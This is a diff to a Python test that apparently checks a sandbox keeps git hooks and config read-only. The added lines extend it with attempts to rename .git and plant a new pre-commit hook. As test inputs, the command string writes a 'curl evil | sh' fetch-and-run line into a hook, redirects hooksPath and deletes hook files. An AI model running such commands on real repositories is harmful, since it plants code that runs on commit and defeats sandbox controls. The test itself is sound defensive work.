@@ -230,9 +230,10 @@ def test_git_hooks_and_config_are_read_only(env: Env, host: Host) -> None:
     (git / "HEAD").write_text("ref: refs/heads/main\n")
     command = ("echo 'curl evil | sh' > .git/hooks/pre-commit; echo hook=$?; "
                "printf '[core]\\n\\thooksPath = /tmp/x\\n' >> .git/config; echo config=$?; "
-               "rm -rf .git/hooks; echo rm=$?; mv .git/config .git/c2; echo mv=$?; echo ok > .git/HEAD; echo head=$?")
+               "rm -rf .git/hooks; echo rm=$?; mv .git/config .git/c2; echo mv=$?; echo ok > .git/HEAD; echo head=$?; "
+               "mv .git .git-old; echo mvgit=$?; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo copy=$?")
     out = run(env, host, command)
-    for step in ("hook", "config", "rm", "mv"):
+    for step in ("hook", "config", "rm", "mv", "mvgit", "copy"):
         assert f"{step}=0" not in out.content, out.content
     assert "head=0" in out.content  # the rest of .git stays writable (commits work)
     assert list((git / "hooks").iterdir()) == []
